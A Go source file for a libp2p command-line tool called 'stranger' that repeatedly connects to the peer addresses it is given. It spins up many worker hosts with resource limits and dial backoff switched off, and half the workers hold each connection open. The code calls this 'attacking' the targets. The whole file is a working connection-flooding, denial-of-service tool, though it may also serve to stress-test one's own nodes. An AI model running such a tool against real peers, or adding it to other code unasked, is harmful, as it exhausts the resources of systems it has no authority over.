package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"github.com/libp2p/go-libp2p"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/p2p/net/swarm"
	ma "github.com/multiformats/go-multiaddr"
)

// count is what came of the attempts.
type count struct{ tried, connected atomic.Int64 }

func main() {
	last := flag.Duration("for", 30*time.Second, "how long to go on")
	workers := flag.Int("workers", 16, "attempts at once")
	flag.Parse()
	if err := run(*last, *workers, flag.Args()); err != nil {
		fmt.Fprintln(os.Stderr, "stranger:", err)
		os.Exit(1)
	}
}

// run attacks the addresses, each with /p2p/ID, in turn. Every second worker
// keeps its connections until the other side ends them, the others hang up at once.
func run(last time.Duration, workers int, addrs []string) error {
	var targets []peer.AddrInfo
	for _, s := range addrs {
		a, err := ma.NewMultiaddr(s)
		if err != nil {
			return err
		}
		t, err := peer.AddrInfoFromP2pAddr(a)
		if err != nil {
			return err
		}
		targets = append(targets, *t)
	}
	if len(targets) == 0 {
		return errors.New("no address to attack; usage: stranger [-for D] [-workers N] MULTIADDR")
	}
	ctx, cancel := context.WithTimeout(context.Background(), last)
	defer cancel()
	var n count
	var wg sync.WaitGroup
	for i := range workers {
		h, err := libp2p.New(libp2p.NoListenAddrs, libp2p.ResourceManager(&network.NullResourceManager{}), libp2p.DisableMetrics())
		if err != nil {
			return err
		}
		defer h.Close()
		wg.Go(func() { attack(ctx, h, targets, i, &n) })
	}
	wg.Wait()
	fmt.Printf("%d tried, %d connected\n", n.tried.Load(), n.connected.Load())
	return nil
}

// attack connects again and again until ctx ends.
func attack(ctx context.Context, h host.Host, targets []peer.AddrInfo, worker int, n *count) {
	nw, ok := h.Network().(*swarm.Swarm)
	for i := worker; ctx.Err() == nil; i++ {
		t := targets[i%len(targets)]
		if ok {
			nw.Backoff().Clear(t.ID)
		}
		h.Peerstore().ClearAddrs(t.ID) // one transport at a time
		try, cancel := context.WithTimeout(ctx, 5*time.Second)
		n.tried.Add(1)
		if err := h.Connect(try, t); err == nil {
			n.connected.Add(1)
			for worker%2 == 0 && ctx.Err() == nil && h.Network().Connectedness(t.ID) == network.Connected {
				time.Sleep(10 * time.Millisecond)
			}
		}
		_ = h.Network().ClosePeer(t.ID) // hang up; an error means that it is gone
		cancel()
	}
}
